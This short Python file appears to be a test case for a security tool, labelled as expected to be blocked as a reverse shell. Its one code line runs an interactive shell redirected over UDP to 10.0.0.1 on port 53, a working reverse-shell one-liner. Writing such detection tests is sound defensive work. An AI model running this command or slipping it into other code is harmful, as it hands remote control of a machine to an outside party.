# expect: BLOCKED reverse_shell
import os
os.execve("/bin/sh", ["sh", "-c", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"], {})
